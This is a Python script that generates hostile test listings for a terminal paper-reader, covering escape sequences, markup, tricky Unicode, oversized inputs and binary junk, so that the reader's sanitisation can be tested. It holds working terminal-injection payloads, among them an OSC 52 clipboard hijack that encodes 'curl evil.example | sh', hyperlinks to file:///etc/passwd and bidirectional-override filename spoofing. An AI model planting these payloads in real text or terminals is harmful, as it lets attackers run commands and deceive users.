"""Regenerate the hostile listing files: `python tests/data/hostile/make_hostile.py` (deterministic output).

The text files are committed, so tests never depend on this script; it exists so a reader can see exactly
which bytes each file holds and why, and so the set can be extended without hand-typing raw escape bytes.
Every hostile payload carries the marker word "pwned" right after it, so a test can tell a payload that
reached the terminal from the escape sequences the UI toolkit writes itself.
"""

from __future__ import annotations

import base64
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent

ESC = "\x1b"
BEL = "\x07"
OSC52_PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()  # what a clipboard hijack would paste
C1_CSI = "\u009b"  # the 8-bit CSI: one character, two bytes in UTF-8, a full escape on some terminals

ESCAPES = [
    f"Diffusion models that clear the screen{ESC}[2Jpwned-clear{ESC}[Hpwned-home when an abstract is printed "
    "raw. We study denoising diffusion under adversarial text and show that sanitising control characters "
    "is necessary for any terminal reader.",
    f"Clipboard hijacking through OSC 52{ESC}]52;c;{OSC52_PAYLOAD}{BEL}pwned-clipboard lets an abstract "
    "replace what the reader pastes next. We measure how often diffusion of such payloads goes unnoticed.",
    f"A window title attack{ESC}]0;pwned-title{BEL} renames the terminal, and a second form"
    f"{ESC}]2;pwned-title2{ESC}\\ uses the string terminator. "
    "Transformers trained on such data learn nothing from it.",
    f"Cursor position queries{ESC}[6npwned-query make the terminal type a reply into the program's input, "
    "which a careless reader would treat as keystrokes. We propose robust graph neural networks.",
    f"The eight-bit control sequence introducer{C1_CSI}2Jpwned-c1 is a single code point that some "
    f"terminals honour, as is the eight-bit OSC\u009d0;pwned-c1-title\u009c. Reinforcement learning "
    "agents do not care.",
    f"Carriage returns\rpwned-cr overwrite a line, backspaces\x08\x08\x08pwned-bs erase text, "
    f"a bell{BEL}rings, a vertical tab\x0band a form feed\x0c move the cursor, "
    "and DEL\x7f is invisible. Attention is all you need to notice them.",
    f"Colour and mode changes{ESC}[31;1;5mpwned-sgr{ESC}[0m, hiding the cursor{ESC}[?25lpwned-cursor, "
    f"switching the character set{ESC}(0pwned-charset{ESC}(B and a hyperlink"
    f"{ESC}]8;;file:///etc/passwd{ESC}\\pwned-link{ESC}]8;;{ESC}\\ all come from one optimisation paper.",
]

MARKUP = [
    "[bold red]Markup in a title[/] must be shown literally, not styled: a reader that renders Rich markup "
    "from untrusted abstracts lets the data decide what the screen shows. We study diffusion of markup.",
    "A link to [link=file:///etc/passwd]your password file[/link] and a click action "
    "[@click=app.quit]that quits the app[/] are inert text here; language models should see the brackets.",
    "Unbalanced markup [/] closes nothing, [bold]opens without closing, [/bold] [ closes an unopened tag, "
    "and escaped \\[italic] stays literal. [on red]Background[/on red] and [reverse]reverse[/reverse] too.",
    "Textual content markup $variables and [$accent]variables[/] and {braces} and %s %d %(name)s format "
    "specifiers and {0} {name!r} must not be interpolated. Markdown **bold** and `code` and <b>html</b>.",
]

UNICODE = [
    "Bidirectional overrides \u202epwned-rlo txt.exe\u202c and isolates \u2067pwned-rli\u2069 and "
    "\u202dleft-to-right\u202c and marks \u200f\u200e can reorder what the reader sees; vision transformers "
    "do not read them.",
    "Zero-width\u200bspaces\u200cand\u200djoiners\u2060and\ufeffbyte-order marks split words invisibly, so "
    "a search for zerowidth may or may not match; graph learning is unaffected.",
    "大规模语言模型的扩散训练：我们提出一种新的方法，在中文、日本語の論文、한국어 논문 上进行评估。"
    "Wide characters must not break the column layout of the paper list.",
    "Emoji 🤖🧠📄✨ and flags 🇺🇳🏳️‍🌈 and skin tones 👩🏽‍🔬 and keycaps 1️⃣ are wide and made of several "
    "code points; combining marks e\u0301\u0301\u0301\u0301 and Zalgo "
    "z\u0336\u0334\u0335a\u0337\u0338l\u0321\u0322g\u0327\u0328o stack on one cell.",
    "Mathematical alphanumerics 𝐁𝐨𝐥𝐝 𝑰𝒕𝒂𝒍𝒊𝒄 𝔉𝔯𝔞𝔨𝔱𝔲𝔯 and fullwidth ＡＢＣ and the replacement character "
    "\ufffd and a private-use \ue000 character and an unpaired-looking \U0010fffd all in one abstract.",
]


def _huge_abstract(rng: random.Random) -> str:
    words = ["diffusion", "transformer", "graph", "kernel", "sparse", "attention", "policy", "bound"]
    sentences = []
    while sum(len(s) + 1 for s in sentences) < 16 * 1024:
        sentences.append(" ".join(rng.choice(words) for _ in range(12)).capitalize() + ".")
    return "A sixteen kilobyte abstract about scaling. " + " ".join(sentences)


def _unbroken_token(rng: random.Random) -> str:
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    token = "".join(rng.choice(alphabet) for _ in range(25 * 1024))
    return f"An unbroken token follows and must wrap or clip without stalling the reader: {token} end."


def _write_listing(name: str, header: str, abstracts: list[str]) -> None:
    for abstract in abstracts:
        assert "\n" not in abstract, "a paragraph break inside an abstract would split it in two"
    text = header + "\n\n" + "\n\n".join(abstracts) + "\n"
    (HERE / name).write_bytes(text.encode("utf-8"))


def main() -> None:
    rng = random.Random(20260501)
    _write_listing("escapes.txt", f"Hostile Conference 2026 Papers{ESC}]0;pwned-header{BEL}", ESCAPES)
    _write_listing("markup.txt", "[bold red]Markup Workshop[/] 2026 Papers", MARKUP)
    _write_listing("unicode.txt", "ＵＮＩＣＯＤＥ 2026 论文列表 \u202eSREPAP", UNICODE)
    _write_listing("huge.txt", "Huge 2026 Papers", [_huge_abstract(rng), _unbroken_token(rng)])
    # Random bytes with NULs, invalid UTF-8 and stray C1 bytes: a file that is not a listing at all.
    junk = bytes(rng.randrange(256) for _ in range(4096)) + b"\x00\x9b2J\x00pwned-binary\x1b]52;c;"
    (HERE / "junk.txt").write_bytes(junk)


if __name__ == "__main__":
    main()
